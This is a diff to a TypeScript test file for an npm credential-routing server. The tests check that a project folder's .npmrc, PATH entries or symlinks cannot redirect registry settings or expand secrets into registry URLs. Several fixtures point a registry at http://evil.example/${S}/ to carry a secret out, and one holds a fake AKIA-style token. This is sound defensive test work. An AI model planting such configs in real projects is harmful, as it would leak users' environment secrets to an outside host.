@@ -1,4 +1,4 @@
-import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
 import { createRequire } from 'node:module';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
@@ -6,6 +6,7 @@ import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { loadNpmRoutes } from '../../server/src/credentials/npm.ts';
 import { readSettings } from '../../server/src/read-settings.ts';
 import type { Routing } from '../../server/src/registries/route.ts';
+import { ownershipIn } from '../support/ownership.ts';
 
 let place: string;
 let log: string[];
@@ -55,6 +56,7 @@ async function routingOf(name: string, world: World): Promise<Routing> {
   const router = await loadNpmRoutes({
     root: path.join(place, 'project'),
     home: path.join(place, 'home'),
+    ownership: ownershipIn([path.join(place, 'project')], path.join(place, 'home')),
     environment: { npm_config_prefix: path.join(place, 'prefix'), ...world.env },
     settings,
     log: line => log.push(line),
@@ -150,13 +152,96 @@ describe('where', () => {
     expect(await route('demo', { project, npm: 'https://setting.example' })).toBe('https://setting.example anonymous');
   });
 
-  test("a user file that is also the folder's counts as the user's", async () => {
+  test("a user file that is also the folder's counts as the folder's", async () => {
     const userconfig = path.join(place, 'project', '.npmrc');
     const world = {
       project: 'registry=https://r.example/\n//r.example/:_authToken=${T}',
       env: { npm_config_userconfig: userconfig, T: 't' },
     };
-    expect(await route('demo', world)).toBe('https://r.example t');
+    expect(await route('demo', world)).toBe('https://r.example anonymous, withheld');
+  });
+
+  describe("a script's environment that repeats the folder's file", () => {
+    const token = '//r.example/:_authToken=users';
+    test.each<[string, World, string]>([
+      [
+        'gets no login in the clear',
+        { project: 'registry=http://r.example', user: token, env: { npm_config_registry: 'http://r.example/' } },
+        'http://r.example anonymous, withheld',
+      ],
+      [
+        'gives away no variable',
+        {
+          project: 'registry=http://r.example/${S}/',
+          env: { S: 'secret', npm_config_registry: 'http://r.example/secret/' },
+        },
+        'closed: untrusted',
+      ],
+      [
+        'by the scheme that the user meant is as before',
+        { project: 'registry=https://r.example', user: token, env: { npm_config_registry: 'https://r.example/' } },
+        'https://r.example users',
+      ],
+      [
+        'is not one that says something else',
+        { project: 'registry=http://r.example', user: token, env: { npm_config_registry: 'http://r.example/other' } },
+        'http://r.example/other users',
+      ],
+      [
+        'by another manager, pnpm',
+        { project: 'registry=http://r.example', user: token, env: { pnpm_config_registry: 'http://r.example' } },
+        'http://r.example anonymous, withheld',
+      ],
+    ])('%s', async (_, world, expected) => {
+      expect(await route('demo', world)).toBe(expected);
+    });
+
+    test("sends nobody to a file of the folder's choice", async () => {
+      await writeFile(path.join(place, 'chosen'), 'registry=http://r.example/${S}/');
+      const env = { S: 'secret', npm_config_userconfig: path.join(place, 'chosen') };
+      expect(await route('demo', { env })).toBe('http://r.example/secret anonymous');
+      expect(await route('demo', { env, project: 'userconfig=../chosen' })).toBe(`${DEFAULT} anonymous`);
+    });
+
+    test('is found where the script was started below the folder', async () => {
+      await mkdir(path.join(place, 'project', 'tools'));
+      await writeFile(path.join(place, 'project', 'tools', '.npmrc'), 'registry=http://r.example/${S}/');
+      const env = { S: 'secret', npm_config_registry: 'http://r.example/secret/' };
+      expect(await route('demo', { env })).toBe('http://r.example/secret anonymous');
+      const started = { npm_config_local_prefix: path.join(place, 'project', 'tools') };
+      expect(await route('demo', { env: { ...env, ...started } })).toBe(`${DEFAULT} anonymous`);
+    });
+  });
+
+  test.skipIf(process.platform === 'win32').each([
+    ['the PATH leads into the folder', 'project/node_modules/.bin', 'project/node_modules/etc'],
+    ['a part of it that only leads there by a link', 'link/bin', 'project/etc'],
+  ])("the machine's file is not looked for where %s", async (_, bin, etc) => {
+    await mkdir(path.join(place, 'project', 'bin'), { recursive: true });
+    await symlink(path.join(place, 'project'), path.join(place, 'link'));
+    await mkdir(path.join(place, bin), { recursive: true });
+    await mkdir(path.join(place, etc), { recursive: true });
+    await writeFile(path.join(place, bin, 'node'), '', { mode: 0o755 });
+    await writeFile(path.join(place, etc, 'npmrc'), 'registry=http://evil.example/${S}/');
+    const env = { S: 'secret', npm_config_prefix: '', PATH: path.join(place, bin) };
+    expect(await route('demo', { env })).toBe(`${DEFAULT} anonymous`);
+  });
+
+  test.skipIf(process.platform === 'win32')(
+    "the user's file that is a link into the folder is the folder's",
+    async () => {
+      await writeFile(path.join(place, 'project', 'rc'), 'registry=http://evil.example/${S}/');
+      await symlink(path.join(place, 'project', 'rc'), path.join(place, 'home', '.npmrc'));
+      expect(await route('demo', { env: { S: 'secret' } })).toBe('closed: unreachable');
+      expect(log.join()).toContain('lies in the folder that is checked');
+    },
+  );
+
+  test.skipIf(process.platform === 'win32')('the folder’s file that is a link out of it is not read', async () => {
+    await writeFile(path.join(place, 'secrets'), 'registry=https://r.example/AKIASECRET');
+    await symlink(path.join(place, 'secrets'), path.join(place, 'project', '.npmrc'));
+    expect(await route('demo', {})).toBe('closed: unreachable');
+    expect(log.join()).toContain('is a link out of the folder');
   });
 });
 
